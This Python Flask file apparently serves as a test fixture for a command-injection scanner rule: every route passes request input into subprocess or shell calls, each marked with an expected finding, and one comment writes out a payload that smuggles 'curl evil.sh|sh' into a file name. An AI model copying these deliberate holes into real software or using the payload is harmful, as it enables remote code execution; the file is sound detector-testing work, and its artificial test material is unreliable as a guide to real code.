"""Media conversion service: wraps ffmpeg, ImageMagick and friends behind a small Flask API."""

import subprocess

from flask import Flask, jsonify, request

app = Flask(__name__)
UPLOADS = "/srv/uploads"


@app.route("/convert", methods=["POST"])
def convert():
    source = request.form["file"]
    fmt = request.form.get("format", "mp4")
    # The f-string is parsed by /bin/sh: file=x.mov;curl evil.sh|sh
    cmd = f"ffmpeg -y -i {UPLOADS}/{source} {UPLOADS}/{source}.{fmt}"
    subprocess.run(cmd, shell=True, check=True)  # expect: PYTHON-FLASK-SEC-002
    return jsonify(status="queued")


@app.route("/thumbnail")
def thumbnail():
    size = request.args.get("size", "128x128")
    return subprocess.check_output(  # expect: PYTHON-FLASK-SEC-002
        "convert " + request.args["image"] + " -thumbnail " + size + " png:-",
        shell=True,
    )


@app.route("/probe")
def probe():
    path = request.args.get("path", "")
    # getoutput() always runs its argument through the shell.
    info = subprocess.getoutput("ffprobe -hide_banner %s" % path)  # expect: PYTHON-FLASK-SEC-002
    return jsonify(info=info)


@app.route("/filters", methods=["POST"])
def apply_filters():
    payload = request.get_json()
    steps = []
    for name in payload["filters"]:
        steps.append("-vf {}".format(name))
    script = "ffmpeg -i in.mp4 " + " ".join(steps) + " out.mp4"
    # Engine gap: list.append() does not yet carry taint into the list.
    proc = subprocess.Popen(["/bin/sh", "-c", script])  # expect: PYTHON-FLASK-SEC-002
    return jsonify(pid=proc.pid)


@app.route("/watermark", methods=["POST"])
def watermark():
    for overlay in request.form.getlist("overlay"):
        subprocess.run(["sh", "-c", "composite -gravity center " + overlay + " in.png out.png"])  # expect: PYTHON-FLASK-SEC-002
    return jsonify(ok=True)


@app.route("/tool/<name>")
def run_tool(name):
    # The program itself comes from the request.
    tool = request.view_args["name"]
    result = subprocess.run([tool, "--version"], capture_output=True, text=True)  # expect: PYTHON-FLASK-SEC-002
    return jsonify(version=result.stdout)


@app.route("/legacy-exec", methods=["POST"])
def legacy_exec():
    line = request.data.decode()
    if line.startswith("convert "):
        line = line + " -strip"
    # A string without shell=True: the data names the program to execute.
    return jsonify(code=subprocess.call(line))  # expect: PYTHON-FLASK-SEC-002
